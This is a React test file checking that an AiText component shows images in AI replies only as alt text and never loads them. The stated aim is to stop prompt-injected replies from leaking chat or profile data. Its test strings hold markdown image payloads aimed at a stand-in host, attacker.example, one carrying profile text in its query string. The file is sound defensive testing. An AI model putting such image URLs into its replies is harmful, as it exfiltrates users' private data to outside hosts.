import { render } from '@testing-library/react';
import { AiText } from './Markdown';

// docs/decisions.md#the-browsers-defences: AI text renders no remote images, so a reply that a prompt
// injection wrote cannot make the browser send chat or profile text to another host.
// Every screen draws AI text with AiText: the chat's replies, the roasts, the photo reviews.
const renderText = (text: string) => render(<AiText text={text} />);

describe('AI text', () => {
  it('shows an image as its alt text, and draws no image', () => {
    const { container } = renderText(
      'Here is your bio.\n\n![profile summary](http://attacker.example/x?d=I%20love%20hiking) Good luck!',
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.innerHTML).not.toContain('attacker.example');
    expect(container.textContent).toContain('profile summary Good luck!');
  });

  it('draws nothing for an image without alt text, nor for one given by reference', () => {
    const { container } = renderText(
      'Before ![](https://attacker.example/a.png) between ![logo][pixel] after\n\n[pixel]: https://attacker.example/b.png',
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.innerHTML).not.toContain('attacker.example');
    expect(container.textContent).toBe('Before  between logo after');
  });

  it('keeps links as links that open in a new tab, without handing this page over', () => {
    const { getByRole } = renderText('Read [the guide](https://example.com/guide).');
    const link = getByRole('link', { name: 'the guide' });
    expect(link.getAttribute('href')).toBe('https://example.com/guide');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });
});
